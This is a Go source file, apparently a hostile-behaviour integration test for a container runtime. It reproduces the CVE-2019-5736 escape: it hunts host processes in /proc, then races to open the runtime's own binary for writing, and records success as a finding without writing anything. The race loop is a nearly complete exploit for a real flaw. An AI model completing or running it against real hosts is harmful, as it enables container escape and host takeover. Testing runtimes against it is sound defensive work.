package main

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"

	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
)

// overwrite is the attack of CVE-2019-5736. The container's program is a script whose
// interpreter is /proc/self/exe, which makes the runtime execute itself in the container.
// If a process has /proc/PID/exe open meanwhile, it can write to the host's binary when
// that is no longer executed. overwrite opens the file for writing, and writes nothing.
func overwrite() {
	h := &hunter{self: os.Getpid()}
	h.know()
	ready()
	for {
		for _, pid := range processes() {
			proc := fmt.Sprintf("/proc/%d/", pid)
			if pid == h.self || !h.foreign(proc) {
				continue
			}
			if fd, err := unix.Open(proc+"exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				link, _ := os.Readlink(proc + "exe")
				openForWriting(fd, link)
				unix.Close(fd)
			}
		}
	}
}

// openForWriting retries as long as the program is executed.
func openForWriting(fd int, link string) {
	for range 100_000 {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(w)
			got(loot.Write, "the runtime's program %s", link)
			return
		}
		if !errors.Is(err, unix.ETXTBSY) {
			return
		}
	}
}
